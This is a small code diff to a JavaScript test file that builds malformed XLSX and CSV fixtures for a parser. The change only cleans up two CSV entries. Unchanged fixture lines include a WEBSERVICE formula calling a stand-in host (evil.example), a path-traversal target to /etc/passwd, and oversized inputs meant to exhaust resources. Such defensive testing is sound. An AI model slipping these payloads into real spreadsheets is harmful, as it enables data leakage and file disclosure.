@@ -104,7 +104,7 @@ const sheets = of('lying sheet', [
   ['表.xlsx', sheet(cells('<row r="1"><c r="ZZZZ1"><v>1</v></c></row>'))], ['表.xlsx', sheet(cells('<row r="99999999"><c><v>1</v></c></row>'))], ['表.xlsx', sheet(cells('<row r="1"><c t="s"><v>99999999</v></c></row>'))], ['表.xlsx', sheet(cells('<row r="-1"><c r="A-1" t="s"><v>-1</v></c></row>'))],
   ['表.xlsx', sheet(cells('<row r="1"><c><f>WEBSERVICE("http://evil.example")</f></c></row>'))], ['表.xlsx', sheet(cells(`<row r="1"><c t="inlineStr"><is><t>${'长'.repeat(100_000)}</t></is></c></row>`))], ['表.xlsx', sheet(cells(`<row r="1">${'<c><v>1</v></c>'.repeat(20_000)}</row>`))], ['表.xlsx', sheet(cells('<row r="1"><c'))],
   ['表.xlsx', sheet('<worksheet>', { 'xl/_rels/workbook.xml.rels': '<Relationships><Relationship Id="rId1" Target="../../../../etc/passwd"/></Relationships>' })], ['表.xlsx', sheet(cells('<row r="1"><c s="99"><v>1e308</v></c><c><v>NaN</v></c></row>'))],
-  ['表.csv', Buffer.from(`姓名,"${'甲'.repeat(1000)}`)], ['表.csv', Buffer.from(`${',' .repeat(100_000)}\n`)], ['表.csv', Buffer.from([0xff, 0xfe, 0x00])], ['表.csv', Buffer.from(`${'"'.repeat(99_999)}`)], ['表.csv', Buffer.from([0x81, 0xff, 0x82, 0x2c, 0x0a])],
+  ['表.csv', Buffer.from(`姓名,"${'甲'.repeat(1000)}`)], ['表.csv', Buffer.from(`${','.repeat(100_000)}\n`)], ['表.csv', Buffer.from([0xff, 0xfe, 0x00])], ['表.csv', Buffer.from('"'.repeat(99_999))], ['表.csv', Buffer.from([0x81, 0xff, 0x82, 0x2c, 0x0a])],
 ], false)
 
 /** Names that mean another place or another type; the file itself is in order. */
